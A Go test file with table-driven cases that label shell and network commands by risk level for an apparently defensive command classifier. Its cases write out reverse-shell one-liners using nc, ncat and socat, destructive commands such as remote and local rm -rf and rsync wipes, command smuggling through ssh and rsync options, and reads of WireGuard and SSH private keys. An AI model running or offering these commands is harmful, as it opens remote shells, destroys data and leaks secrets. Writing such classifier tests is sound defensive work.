package programs_test

import "testing"

func TestTheNetworkIsLookedAtNotUsed(t *testing.T) {
	table(t, `
		read-only | ss -tlnp
		dangerous | ss -K dst 192.0.2.1
		write | ss -D pwned
		read-only | ip -br -4 a
		dangerous | ip addr flush dev eth0
		dangerous | ip route flush table main
		dangerous | ip link set eth0 down
		write | ip link s eth0 down
		write | ip addr add 10.0.0.1/8 dev eth0
		unknown | ip netns exec x id
		unknown | ip -b cmds.txt
		unknown | ip -batch cmds.txt
		unknown | ip -n x a
		unknown | ip $X
		dangerous | ifconfig eth0 down
		dangerous | arp -d 192.0.2.1
		dangerous | route add default gw 10.0.0.1
		network-read | ping -c 1 host
		network-read | curl -s http://host
		write | curl -o pwned file:///etc/hostname
		unknown | curl -K evil.cfg
		unknown | dig -f /etc/shadow
		forbidden | nc -e /bin/sh 192.0.2.1 4444
		forbidden | ncat --exec /bin/sh 192.0.2.1 4444
		forbidden | nc -lvp 4444 -e /bin/sh
		forbidden | ncat -c sh host 1
		network-read | nc -zv host 22
		forbidden | socat TCP:192.0.2.1:4444 EXEC:/bin/sh
		sensitive-read | wg showconf wg0
		sensitive-read | wg show wg0 private-key
		unknown | tcpdump -i eth0
	`)
}

func TestOtherHostsAreReachedKnowingly(t *testing.T) {
	table(t, `
		unknown | ssh host ls
		forbidden | ssh -p 22 root@host rm -rf /
		forbidden | ssh -o ProxyCommand='rm -rf /' x
		unknown | ssh -o PermitLocalCommand=yes -o LocalCommand='id' host
		unknown | scp -S ./evil a host:
		unknown | rsync -e 'sh -c id' a host:b
		forbidden | rsync -a --delete empty/ /
		forbidden | ssh-copy-id host
		sensitive-read | ssh-add -L
		read-only | ssh-add -l
		read-only | ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub
		write | ssh-keygen -t ed25519 -f x
		sensitive-read | ssh-keygen -yf id
	`)
}
